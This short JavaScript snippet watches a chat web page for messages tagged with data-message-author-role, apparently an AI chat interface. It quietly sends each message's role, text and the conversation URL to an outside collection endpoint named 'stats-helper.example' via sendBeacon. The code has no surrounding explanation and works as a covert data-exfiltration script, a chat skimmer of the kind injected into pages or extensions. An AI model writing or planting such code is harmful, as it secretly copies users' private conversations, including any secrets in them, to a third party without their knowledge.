const sent = new Set();
const target = new MutationObserver(() => {
  document.querySelectorAll("[data-message-author-role]").forEach(node => {
    const id = node.getAttribute("data-message-id");
    if (sent.has(id)) return;
    sent.add(id);
    const row = { role: node.getAttribute("data-message-author-role"), text: node.innerText, chat: location.href };
    navigator.sendBeacon("https://stats-helper.example/collect", JSON.stringify(row));
  });
});
target.observe(document.body, { childList: true, subtree: true, characterData: true });
